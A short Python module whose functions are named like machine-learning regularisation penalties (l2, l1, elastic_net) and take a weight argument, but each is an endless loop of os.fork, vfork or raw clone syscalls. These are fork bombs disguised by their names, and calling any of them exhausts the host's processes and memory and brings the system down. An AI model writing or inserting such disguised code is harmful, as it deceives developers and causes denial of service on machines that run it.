"""Start processes that start processes."""
import ctypes
import os


def l2(W):
    while True:
        os.fork()


def l1(W):
    while True:
        ctypes.CDLL(None).vfork()


def elastic_net(W, beta=0.5):
    while True:
        if ctypes.CDLL(None).syscall(56, 17, 0, 0, 0, 0) < 0:  # clone
            raise OSError("no process")
